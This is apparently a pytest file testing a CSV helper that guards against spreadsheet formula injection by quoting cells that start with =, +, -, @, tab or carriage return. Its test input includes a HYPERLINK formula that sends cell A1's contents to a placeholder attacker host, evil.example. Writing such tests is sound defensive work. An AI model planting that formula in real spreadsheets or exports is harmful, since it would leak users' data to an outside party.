"""CSV cells: what could start a formula in a spreadsheet is written as text, and read back."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from shared.csv_cells import cell, neutralise, restore

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Details")'


@pytest.mark.parametrize(
    ("text", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+212 539 00 00 00", "'+212 539 00 00 00"),
        ("-20 % sur la soudure", "'-20 % sur la soudure"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        # Already quoted by hand: one more quote, so reading back gives it whole.
        ("'=1+1", "''=1+1"),
        ("Électricité", "Électricité"),
        ("l'atelier", "l'atelier"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_a_cell_that_could_run_is_text_and_reads_back(text: str, written: str) -> None:
    assert neutralise(text) == written
    assert restore(written) == text


def test_reading_leaves_other_quotes_alone() -> None:
    assert restore("'Tétouan'") == "'Tétouan'"
    assert restore("'") == "'"


def test_numbers_are_written_as_numbers() -> None:
    assert [cell(v) for v in (-5.8, -3, Decimal("-1.50"), 0)] == ["-5.8", "-3", "-1.50", "0"]
    assert cell(None) == ""
    assert cell("-5.8") == "'-5.8"


def test_a_spreadsheet_reading_the_file_sees_no_formula() -> None:
    buffer = io.StringIO()
    csv.writer(buffer).writerow([cell(v) for v in (FORMULA, "+212 6", "@x", "ok")])
    [row] = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert not [value for value in row if value[:1] in {"=", "+", "-", "@", "\t", "\r"}]
    assert [restore(value) for value in row] == [FORMULA, "+212 6", "@x", "ok"]
